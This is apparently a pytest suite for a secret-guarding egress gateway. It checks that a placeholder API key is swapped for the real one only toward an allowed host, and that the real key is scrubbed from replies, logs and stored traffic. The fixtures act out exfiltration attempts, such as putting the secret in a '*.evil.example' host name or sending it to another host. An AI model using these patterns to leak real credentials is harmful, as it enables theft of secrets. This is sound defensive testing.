"""Secrets on the wire: who sees the value, and everything that a run leaves is searched for it."""

from __future__ import annotations

import asyncio
import base64
import gzip
import json
import logging
import ssl
from urllib.parse import quote

import httpx
import pytest

from aegis.gateway import Origin
from support.gateway_server import GatewayServer, World
from support.http_upstream import HttpUpstream, Received, chunk, echo, response, says
from support.raw_client import ask, connect, read_all, read_until

KEY = "sk-ant-api03-" + "Qm8xT5vB/2n+7Lk9Rz" * 3
NAMES = {"ANTHROPIC_API_KEY": ("api.example",)}


def guarded(net: World, upstream: object, **fields: object) -> GatewayServer:
    port = net.upstream(upstream)  # type: ignore[arg-type]
    routes = {"api.example": f"http://127.0.0.1:{port}", "other.example": f"http://127.0.0.1:{port}"}
    return net.gateway(
        routes=routes, secrets=NAMES, gateway={"secret_values": {"ANTHROPIC_API_KEY": KEY}}, **fields
    )


def placeholder(server: GatewayServer) -> str:
    return server.session.environment()["ANTHROPIC_API_KEY"]


def everything(server: GatewayServer) -> bytes:
    """All that the session has left behind."""
    out = json.dumps([item.to_json() for item in server.exchanges]).encode()
    out += b"".join(server.blobs.values()) + repr(server.session.denied).encode()
    return out + repr(server.gateway.vault).encode()


def forms(value: str) -> list[bytes]:
    return [value.encode(), quote(value, safe="").encode(), base64.b64encode(value.encode())[:-4]]


def send(server: GatewayServer, request: str, host: str = "api.example") -> bytes:
    return ask(server.listen(Origin.direct(host, None, 80)), request.encode())


def test_the_value_goes_out_and_comes_back_as_the_placeholder(
    net: World, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    upstream = HttpUpstream(echo)
    server = guarded(net, upstream)
    mine = placeholder(server)
    basic = base64.b64encode(f"user:{mine}".encode()).decode()
    answer = send(
        server,
        f"GET /x?key={mine} HTTP/1.1\r\nHost: api.example\r\nX-Api-Key: {mine}\r\nAuthorization: Basic {basic}\r\n"
        f"Accept-Encoding: gzip, br\r\nConnection: close\r\n\r\n",
    )
    seen = upstream.received[0]
    assert seen.headers["x-api-key"] == KEY
    assert base64.b64decode(seen.headers["authorization"][6:]).decode() == f"user:{KEY}"
    assert seen.target == f"/x?key={quote(KEY, safe='-._~')}"
    assert seen.headers["accept-encoding"] == "identity"
    body = json.loads(answer.partition(b"\r\n\r\n")[2])
    assert body["headers"]["x-api-key"] == mine
    assert body["headers"]["authorization"] == f"Basic {basic}"
    server.wait_for(1)
    for form in forms(KEY):
        assert form not in answer
        assert form not in everything(server)
        assert form not in caplog.text.encode()
    assert mine.encode() not in everything(server)
    assert b"[secret:ANTHROPIC_API_KEY]" in everything(server)


@pytest.mark.parametrize("size", [1, 3, 7, 1000])
@pytest.mark.parametrize("coding", ["identity", "gzip"])
def test_an_echo_cut_anywhere_and_compressed_unasked_is_replaced(net: World, coding: str, size: int) -> None:
    text = json.dumps({"message": f"bad key {KEY}", "again": [KEY, KEY]}).encode() * 3
    body = gzip.compress(text) if coding == "gzip" else text

    async def answer(request: Received, writer: object) -> None:
        head = b"HTTP/1.1 401 Unauthorized\r\nX-Echo: %s\r\nTransfer-Encoding: chunked\r\n" % KEY.encode()
        writer.write(head + b"Content-Encoding: %s\r\n\r\n" % coding.encode())  # type: ignore[attr-defined]
        for at in range(0, len(body), size):
            writer.write(chunk(body[at : at + size]))  # type: ignore[attr-defined]
        writer.write(b"0\r\nX-Sum: %s\r\n\r\n" % KEY.encode())  # type: ignore[attr-defined]

    server = guarded(net, HttpUpstream(answer))
    mine = placeholder(server)
    url = f"http://127.0.0.1:{server.listen(Origin.direct('api.example', None, 80))}/"
    got = httpx.get(url, headers={"Host": "api.example", "X-Api-Key": mine}, trust_env=False)
    assert got.status_code == 401
    assert got.headers["x-echo"] == mine
    assert got.content == text.replace(KEY.encode(), mine.encode())
    server.wait_for(1)
    assert KEY.encode() not in everything(server)


def test_a_coding_that_cannot_be_searched_is_refused_from_a_host_that_knows_the_value(net: World) -> None:
    reply = response(b"\x0b\x02\x80secret\x03", Content_Encoding="br", Connection="close")
    server = guarded(net, HttpUpstream(says(reply)))
    request = "GET / HTTP/1.1\r\nHost: api.example\r\nConnection: close\r\n\r\n"
    assert send(server, request).startswith(b"HTTP/1.1 502 ")
    assert (server.wait_for(1)[0].error or "").startswith("upstream-coding: ")


@pytest.mark.parametrize("host", ["api.example", "other.example"])
@pytest.mark.parametrize("place", ["path", "body", "long-body", "chunked-body", "header", "query", "basic"])
def test_a_placeholder_that_heads_elsewhere_is_refused(net: World, place: str, host: str) -> None:
    upstream = HttpUpstream(says(response(b"served")))
    server = guarded(net, upstream)
    mine = placeholder(server)
    allowed = host == "api.example" and place in ("header", "query", "basic")
    basic = base64.b64encode(f"user:{mine}".encode()).decode()
    target = {"path": f"/{mine}", "query": f"/?x={mine}"}.get(place, "/")
    header = {"header": f"X-Key: {mine}\r\n", "basic": f"Authorization: Basic {basic}\r\n"}.get(place, "")
    body = {"body": f"key={mine}&", "long-body": "x" * 300_000 + mine + "y" * 300_000}.get(place, "")
    if place == "chunked-body":
        header = "Transfer-Encoding: chunked\r\n"
        body = "".join(f"1\r\n{char}\r\n" for char in f"a{mine}b") + "0\r\n\r\n"
    elif body:
        header += f"Content-Length: {len(body)}\r\n"
    request = f"POST {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{header}\r\n{body}"
    answer = send(server, request, host)
    (exchange,) = server.wait_for(1)
    assert mine.encode() not in bytes(upstream.raw)
    if allowed:
        assert answer.endswith(b"served")
        assert (
            KEY.encode() in bytes(upstream.raw)
            or quote(KEY, safe="").encode() in bytes(upstream.raw)
            or place == "basic"
        )
        return
    assert KEY.encode() not in bytes(upstream.raw)
    assert upstream.received == []
    assert answer.startswith(b"HTTP/1.1 403 ")
    assert answer.endswith(b"Request blocked by egress policy\n")
    assert (exchange.error or "").startswith("secret-refused: the placeholder of ANTHROPIC_API_KEY ")
    if place not in ("long-body", "chunked-body"):
        assert bytes(upstream.raw) == b""
    assert server.session.denied[0].host == host
    assert mine.encode() not in everything(server)


def test_a_placeholder_in_a_host_name_is_refused(net: World) -> None:
    server = net.gateway(
        allow=("*.evil.example",),
        secrets=NAMES,
        gateway={"secret_values": {"ANTHROPIC_API_KEY": "k3jv9a0qmx7w"}},
    )
    mine = placeholder(server)
    direct = server.listen(Origin.proxy())
    ask(direct, f"GET http://{mine}.evil.example/ HTTP/1.1\r\nHost: {mine}.evil.example\r\n\r\n".encode())
    ask(direct, f"CONNECT {mine}.evil.example:443 HTTP/1.1\r\nHost: {mine}.evil.example:443\r\n\r\n".encode())
    assert ["host name" in (item.error or "") for item in server.wait_for(2)] == [True, True]
    assert mine.encode() not in everything(server)


def test_a_placeholder_in_a_tcp_stream_ends_it(net: World) -> None:
    received = bytearray()

    async def collect(reader: object, writer: object) -> None:
        while data := await reader.read(1000):  # type: ignore[attr-defined]
            received.extend(data)

    port = net.upstream(collect)  # type: ignore[arg-type]
    server = net.gateway(
        routes={"db.example:5432": f"127.0.0.1:{port}"},
        secrets=NAMES,
        gateway={"secret_values": {"ANTHROPIC_API_KEY": KEY}},
    )
    mine = placeholder(server)
    with connect(server.listen(Origin.direct("db.example", None, 5432))) as sock:
        sock.sendall(b"\x00\x01" + mine[:9].encode())
        sock.sendall(mine[9:].encode() + b"tail")
        read_all(sock)
    (exchange,) = server.wait_for(1)
    assert (exchange.error or "").startswith("secret-refused: ")
    assert mine.encode() not in bytes(received)
    assert b"tail" not in bytes(received)


def test_a_websocket_that_echoes_the_value_shows_the_placeholder(net: World) -> None:
    async def chatty(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).decode()
        assert KEY in head
        assert "Extensions" not in head
        writer.write(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
        for part in (b"you sent s", b"\x00", KEY[:30].encode(), KEY[30:].encode() + b"!"):
            writer.write(part)
            await writer.drain()
            await reader.readexactly(1) if part != KEY[:30].encode() else await asyncio.sleep(0.05)

    port = net.upstream(chatty)
    server = net.gateway(
        routes={"api.example": f"http://127.0.0.1:{port}"},
        secrets=NAMES,
        gateway={"secret_values": {"ANTHROPIC_API_KEY": KEY}},
    )
    mine = placeholder(server)
    with connect(server.listen(Origin.direct("api.example", None, 80))) as sock:
        sock.sendall(
            b"GET / HTTP/1.1\r\nHost: api.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            b"Sec-WebSocket-Extensions: permessage-deflate\r\nX-Api-Key: " + mine.encode() + b"\r\n\r\n"
        )
        assert read_until(sock, b"you sent s").endswith(b"you sent s")
        sock.sendall(b"1")
        assert read_until(sock, b"\x00") == b"\x00"
        sock.sendall(b"2")
        assert read_until(sock, b"!") == mine.encode() + b"!"
        sock.sendall(b"3")
        assert read_all(sock) == b""
    server.wait_for(1)
    assert KEY.encode() not in everything(server)


def test_a_value_that_the_guest_has_by_other_means_is_not_stored(net: World) -> None:
    server = guarded(net, HttpUpstream(echo))
    body = json.dumps({"leak": KEY, "pad": "x" * 100_000})
    send(
        server,
        f"POST /{quote(KEY, safe='')} HTTP/1.1\r\nHost: api.example\r\nX-Key: {KEY}\r\nConnection: close\r\n"
        f"Content-Length: {len(body)}\r\n\r\n{body}",
    )
    server.wait_for(1)
    assert server.blobs
    for form in forms(KEY):
        assert form not in everything(server)


def test_without_tls_the_value_stays_here(net: World) -> None:
    upstream = HttpUpstream(echo)
    port = net.upstream(upstream)
    server = net.gateway(
        allow=(f"127.0.0.1:{port}",),
        secrets={"ANTHROPIC_API_KEY": ("127.0.0.1",)},
        gateway={"secret_values": {"ANTHROPIC_API_KEY": KEY}},
    )
    mine = placeholder(server)
    direct = server.listen(Origin.direct(None, "127.0.0.1", port))
    request = f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nX-Key: {mine}\r\nConnection: close\r\n\r\n"
    assert ask(direct, request.encode()).startswith(b"HTTP/1.1 403 ")
    assert upstream.received == []


def test_the_environment_tells_nothing_about_where_it_is(net: World) -> None:
    server = guarded(net, HttpUpstream(echo))
    found = server.session.environment(
        ca_file="/usr/local/share/ca-certificates/internal-root.crt",
        ca_bundle="/etc/ssl/certs/ca-certificates.crt",
        proxy="http://127.0.0.1:3128",
    )
    assert found["SSL_CERT_FILE"] == found["REQUESTS_CA_BUNDLE"] == "/etc/ssl/certs/ca-certificates.crt"
    assert found["NODE_EXTRA_CA_CERTS"] == "/usr/local/share/ca-certificates/internal-root.crt"
    assert found["https_proxy"] == "http://127.0.0.1:3128"
    text = json.dumps(found).lower()
    assert not [
        word
        for word in ("aegis", "eval", "trial", "mitm", "sandbox", "gateway", "placeholder")
        if word in text
    ]
    assert found["ANTHROPIC_API_KEY"].startswith("sk-ant-api03-")
    assert len(found["ANTHROPIC_API_KEY"]) == len(KEY)


def test_the_same_credential_has_one_hash_in_a_run(net: World) -> None:
    server = guarded(net, HttpUpstream(echo))
    mine = placeholder(server)
    for key in (mine, mine, "another"):
        send(server, f"GET / HTTP/1.1\r\nHost: api.example\r\nX-Api-Key: {key}\r\nConnection: close\r\n\r\n")
    hashes = [item.credential for item in server.wait_for(3)]
    assert hashes[0] == hashes[1] != hashes[2]
    assert all(hashes)


def test_tls_clients_get_the_same_protection(net: World) -> None:
    server = guarded(net, HttpUpstream(echo))
    mine = placeholder(server)
    context = ssl.create_default_context(cafile=net.ca_file(server))
    with httpx.Client(proxy=server.proxy(), verify=context, trust_env=False) as client:
        seen = client.get("https://api.example/", headers={"X-Api-Key": mine}).json()
    assert seen["headers"]["x-api-key"] == mine
